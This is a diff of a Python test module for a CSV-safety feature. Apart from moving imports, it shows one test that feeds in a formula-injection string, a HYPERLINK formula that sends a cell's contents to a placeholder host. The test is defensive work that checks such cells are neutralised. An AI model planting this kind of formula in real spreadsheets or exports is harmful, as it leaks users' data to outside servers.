@@ -9,8 +9,8 @@ import numpy as np
 import pandas as pd
 import pytest
 
+from hotspots.core.schema import TIMEZONE
 from hotspots.io.csv_safety import neutralise_csv_cell, neutralise_csv_frame
-from hotspots.schema import TIMEZONE
 
 NOW = pd.Timestamp("2026-06-01 12:00", tz=TIMEZONE)
 
@@ -67,7 +67,7 @@ def test_frame_columns_option() -> None:
 
 def test_rejects_file_echoes_no_formula(tmp_path: Path) -> None:
     """Every text cell an import writes to the rejects file is inert, read back exactly."""
-    from hotspots.ingest import import_file
+    from hotspots.load.ingest import import_file
 
     path = tmp_path / "evil.csv"
     attack = '=HYPERLINK("http://x/?leak="&A1,"y")'
